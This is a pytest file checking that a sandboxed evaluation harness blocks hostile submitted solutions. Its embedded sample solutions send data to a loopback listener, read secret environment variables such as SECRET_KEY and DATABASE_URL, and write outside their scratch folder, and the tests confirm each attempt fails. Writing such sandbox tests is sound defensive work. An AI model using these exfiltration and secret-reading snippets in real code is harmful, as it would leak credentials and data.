"""Hostile solutions: no network, no secrets, no writes outside the scratch folder, no root."""

from __future__ import annotations

import os
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from harness import SandboxUnavailableError, evaluate
from harness.parent.cli import main as harness_main
from tests.harness.conftest import Problem, assert_next_evaluation_works, run_harness, write_solution


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A TCP server on the host's loopback that would accept the solution's connection."""
    server = socket.create_server(("127.0.0.1", 0))
    server.setblocking(False)
    yield server
    server.close()


@pytest.mark.hostile
def test_a_solution_cannot_reach_a_listener_on_the_hosts_loopback(
    add_problem: Problem, tmp_path: Path, listener: socket.socket
) -> None:
    port = listener.getsockname()[1]
    solution = write_solution(
        tmp_path / "s",
        f"""
        import socket

        def run(x, y, out):
            with socket.create_connection(("127.0.0.1", {port}), timeout=2) as connection:
                connection.sendall(b"exfiltrated")
            out.copy_(x + y)
        """,
    )
    result = run_harness(add_problem, solution)

    assert result.status == "RUNTIME_ERROR"
    assert "ConnectionRefusedError" in (result.cases[0].reason or "")
    with pytest.raises(BlockingIOError):
        listener.accept()
    assert_next_evaluation_works(add_problem, tmp_path)


@pytest.mark.hostile
def test_a_solution_sees_none_of_the_apps_secrets(
    add_problem: Problem, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET_KEY", "secret-key-value-7f3a")
    monkeypatch.setenv("DATABASE_URL", "postgres://kernelindex:db-password-91c2@127.0.0.1:5432/kernelindex")
    solution = write_solution(
        tmp_path / "s",
        """
        import os

        def run(x, y, out):
            leaked = {name: os.environ[name] for name in ("SECRET_KEY", "DATABASE_URL") if name in os.environ}
            print("leaked:", leaked)
            if not leaked:
                raise PermissionError(f"no secrets here; the environment holds {sorted(os.environ)}")
            out.copy_(x + y)
        """,
    )
    result = run_harness(add_problem, solution)

    assert result.status == "RUNTIME_ERROR"
    reason = result.cases[0].reason or ""
    assert "no secrets here" in reason
    assert "'HOME'" in reason and "'PATH'" in reason
    # What the solution printed is in the log, and it found nothing to print.
    assert "leaked: {}" in result.log_tail
    assert "secret-key-value" not in result.log_tail + reason
    assert "db-password" not in result.log_tail + reason
    assert_next_evaluation_works(add_problem, tmp_path)


@pytest.mark.hostile
def test_a_solution_cannot_write_outside_its_scratch_folder(add_problem: Problem, tmp_path: Path) -> None:
    target = tmp_path / "escaped.txt"
    solution = write_solution(
        tmp_path / "s",
        f"""
        def run(x, y, out):
            with open({str(target)!r}, "w") as escaped:
                escaped.write("written from inside the sandbox")
            out.copy_(x + y)
        """,
    )
    result = run_harness(add_problem, solution)

    assert result.status == "RUNTIME_ERROR"
    assert "escaped.txt" in (result.cases[0].reason or "")
    assert not target.exists()
    assert_next_evaluation_works(add_problem, tmp_path)


def test_a_solution_can_write_in_its_scratch_folder_and_tmp(add_problem: Problem, tmp_path: Path) -> None:
    solution = write_solution(
        tmp_path / "s",
        """
        import os
        import tempfile

        def run(x, y, out):
            with open(os.path.join(os.environ["HOME"], "notes.txt"), "w") as notes:
                notes.write("scratch")
            with tempfile.NamedTemporaryFile() as scratch:
                scratch.write(b"tmp")
            out.copy_(x + y)
        """,
    )

    assert run_harness(add_problem, solution).status == "PASSED"


@pytest.mark.hostile
def test_a_solution_never_runs_as_root(add_problem: Problem, tmp_path: Path) -> None:
    # A harness run by root (a worker in a container) hands the solution to nobody (65534).
    expected = 65534 if os.geteuid() == 0 else os.geteuid()
    solution = write_solution(
        tmp_path / "s",
        f"""
        import os

        def run(x, y, out):
            if os.getuid() != {expected} or os.geteuid() != {expected} or os.getuid() == 0:
                raise PermissionError(f"running as {{os.getuid()}}")
            out.copy_(x + y)
        """,
    )

    assert run_harness(add_problem, solution).status == "PASSED"


def test_without_bubblewrap_the_harness_refuses_unless_told_it_may_run_unsandboxed(
    add_problem: Problem, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path / "empty-bin"))
    solution = write_solution(tmp_path / "s", "def run(x, y, out):\n    out.copy_(x + y)\n")

    with pytest.raises(SandboxUnavailableError, match="bubblewrap"):
        evaluate(add_problem.definition, add_problem.workload, solution, iterations=1)
    arguments = ["run", "--definition", str(add_problem.folder), "--workload", str(add_problem.workload)]
    assert harness_main([*arguments, "--solution", str(solution)]) == 2
    assert "--unsandboxed" in capsys.readouterr().err
    unsandboxed = evaluate(add_problem.definition, add_problem.workload, solution, sandbox=False, iterations=1)
    assert unsandboxed.status == "PASSED"
